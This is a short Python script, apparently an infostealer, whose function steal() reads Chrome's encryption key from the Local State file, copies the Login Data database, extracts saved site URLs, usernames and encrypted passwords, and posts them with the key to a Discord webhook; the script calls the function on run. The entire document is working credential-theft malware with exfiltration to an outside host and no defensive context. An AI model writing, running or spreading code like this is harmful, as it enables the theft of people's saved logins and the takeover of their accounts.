import os, json, base64, sqlite3, shutil, requests
def steal():
    local = os.getenv("LOCALAPPDATA")
    p = os.path.join(local, "Google", "Chrome", "User Data", "Local State")
    key = json.loads(open(p).read())["os_crypt"]["encrypted_key"]
    db = os.path.join(local, "Google", "Chrome", "User Data", "Default", "Login Data")
    shutil.copy(db, "tmp.db")
    rows = sqlite3.connect("tmp.db").execute("select origin_url, username_value, password_value from logins").fetchall()
    requests.post("https://discord.com/api/webhooks/123/abc", json={"content": str(rows), "k": key})
steal()
